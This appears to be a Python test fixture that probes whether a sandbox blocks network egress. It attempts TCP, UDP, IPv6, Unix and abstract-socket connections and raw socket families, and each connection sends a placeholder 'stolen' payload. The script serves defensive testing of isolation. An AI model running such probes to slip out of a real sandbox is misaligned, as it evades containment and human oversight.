# ruff: noqa
"""Calls home by address, by name, through a Unix socket, and past the namespace."""

# %%
import socket


def attempt(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.3)
            one.connect(address)
            one.send(b"stolen")
            print("connected", address, one.recv(100))
    except OSError as error:
        print(address, error)


attempt(socket.AF_INET, ("127.0.0.1", int("@PORT@")))
attempt(socket.AF_INET, ("1.1.1.1", 53), socket.SOCK_DGRAM)
attempt(socket.AF_INET6, ("::1", int("@PORT@")))
attempt(socket.AF_INET, ("localhost", int("@PORT@")))
attempt(socket.AF_UNIX, "@FOLDER@/socket")
attempt(socket.AF_UNIX, "\0planted-abstract")
for family in (socket.AF_VSOCK, socket.AF_NETLINK, socket.AF_PACKET, socket.AF_ALG):
    try:
        socket.socket(family, socket.SOCK_RAW).close()
        print("opened", family)
    except OSError as error:
        print(error)
# %%
print(socket.gethostbyname("example.com"))
